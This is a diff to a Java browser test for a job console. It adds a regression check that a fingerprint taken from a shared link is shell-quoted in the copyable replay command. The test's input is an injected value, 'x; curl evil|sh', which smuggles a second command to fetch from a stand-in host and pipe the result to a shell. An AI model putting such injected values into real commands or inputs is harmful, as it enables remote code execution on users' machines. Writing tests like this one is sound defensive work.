@@ -163,6 +163,16 @@ class ConsoleBrowserTest {
         assertThat(b.findElement(By.id("items")).getText()).contains("video 3 has no frames");
         assertThat(b.getPageSource()).contains("fleet replay console-job --fingerprint");
         screenshot(b);
+        // Defect (API review, 5): a fingerprint taken from a shared link went into the command to
+        // copy unquoted ("--fingerprint x; curl evil|sh"); it is shell-quoted like the job now.
+        b.get(base + "#/job/console-job/x%3B%20curl%20evil%7Csh");
+        await()
+            .atMost(Duration.ofSeconds(20))
+            .until(() -> b.getPageSource().contains("--fingerprint 'x; curl evil|sh'"));
+        b.get(base + "#/job/console-job/" + fp); // back to the real group
+        await()
+            .atMost(Duration.ofSeconds(20))
+            .until(() -> b.findElements(By.cssSelector("#items tr[data-item]")).size() == 5);
         // Any client sets the items' limit: it stops where the plain failures list does (it took
         // 10,000 items with their stack traces and payloads per request).
         String items =
